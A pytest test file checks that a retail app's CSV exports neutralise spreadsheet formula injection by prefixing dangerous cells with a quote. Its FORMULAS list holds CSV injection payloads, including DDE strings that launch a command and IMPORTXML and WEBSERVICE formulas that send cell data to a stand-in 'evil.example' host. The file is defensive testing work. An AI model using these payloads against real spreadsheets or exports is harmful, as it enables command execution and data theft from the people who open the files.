"""No CSV the app writes opens as a formula: order ids, names and reasons that begin with = + - @
(a tab or a carriage return) are neutralised with a leading quote; plain numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re

import pytest

from retorno import csvfile
from tests.conftest import brand_url
from tests.test_admin_brand import _csrf, _staff
from tests.test_sign_in import sign_in

# OWASP's CSV injection examples and variants seen in the wild.
FORMULAS = [
    '=HYPERLINK("http://evil.example","x")',
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")A0',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    '=IMPORTXML(CONCAT("http://evil.example/?", A1), "//a")',
    "+-@=1",
    '=WEBSERVICE("http://evil.example")',
    '=1,2"',
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _cells(body: bytes) -> list[str]:
    """Every cell, read as a spreadsheet would: the byte-order mark off, `;` when the file uses it."""
    text = body.decode("utf-8-sig")
    separator = ";" if text.split("\r\n", 1)[0].count(";") > text.split("\r\n", 1)[0].count(",") else ","
    return [cell for row in csv.reader(io.StringIO(text), delimiter=separator) for cell in row]


def assert_inert(body: bytes) -> None:
    for cell in _cells(body):
        if cell.startswith(DANGEROUS):
            assert re.fullmatch(r"[+-]?[0-9]+([.,][0-9]+)?", cell), cell  # only a plain number


@pytest.mark.parametrize("value", [*FORMULAS, "\t=1+1", "\r=1+1", "\t", "-"])
def test_every_formula_is_neutralised(value):
    body = csvfile.write(["x"], [[value]])
    [_, written] = _cells(body)
    assert written == "'" + value
    assert_inert(body)


@pytest.mark.parametrize(
    "value", ["-12.50", "+3", "12,40", "0", "Ana", "ana@example.com", "", 1250, -1250, None]
)
def test_plain_values_are_written_as_they_are(value):
    body = csvfile.write(["x"], [[value]])
    [_, written] = _cells(body)
    assert written == ("" if value is None else str(value))


async def test_the_shoppers_statement_csv_holds_no_formula(app, api, client, demo):
    for i, formula in enumerate(FORMULAS):
        order_id = formula[:100]
        answer = await api.post(
            "/sales",
            json={
                "order_id": order_id,
                "customer": {"email": "ana@example.com", "name": "=Ana"},
                "total": 1000 + i,
            },
        )
        assert answer.status_code == 201, answer.text
    await sign_in(app, client, "ana@example.com")
    statement = await client.get(brand_url("bella", "/statement.csv"))
    assert statement.status_code == 200 and statement.headers["content-type"].startswith("text/csv")
    assert_inert(statement.content)
    cells = _cells(statement.content)
    for formula in FORMULAS:
        assert any(formula in c for c in cells)  # the order id is there, as text ("Pedido =1+1")
    assert any(re.fullmatch(r"[0-9]+,[0-9]{2}", c) for c in cells)  # amounts in the shopper's decimals


async def test_an_imports_rejected_rows_csv_holds_no_formula(app, demo, clock):
    from retorno.imports import service as imports
    from retorno.worker import Worker

    manager = await _staff(app, clock, demo, "manager")
    token = await _csrf(manager)
    lines = ["order_id,occurred_at,total,email"]
    for n in range(imports.INLINE_ROWS + 1):  # a job for the worker
        order_id = FORMULAS[n % len(FORMULAS)].replace('"', "") + f"-{n}"
        lines.append(f'"{order_id}",2026-10-01,{"abc" if n % 3 == 0 else "10,00"},c{n}@example.com')
    started = await manager.post(
        "/admin/b/bella/import",
        data={"_csrf_token": token},
        files={"file": ("h.csv", "\n".join(lines).encode(), "text/csv")},
    )
    assert started.status_code == 303
    async with Worker(clock=clock, sweep=False) as worker:
        await worker.drain()
    page = await manager.get(started.headers["location"])
    assert "rejected.csv" in page.text
    rejected = await manager.get(started.headers["location"] + "/rejected.csv")
    assert rejected.status_code == 200 and rejected.headers["content-type"].startswith("text/csv")
    assert_inert(rejected.content)
    assert len(_cells(rejected.content)) > 3 * 100
    await manager.aclose()


async def test_the_report_csv_holds_no_formula(app, api, demo, clock):
    manager = await _staff(app, clock, demo, "manager")
    await api.post("/sales", json={"order_id": "=1+1", "customer": {"email": "a@example.com"}, "total": 5000})
    report = await manager.get("/admin/b/bella/reports.csv")
    assert report.status_code == 200
    assert_inert(report.content)
    await manager.aclose()
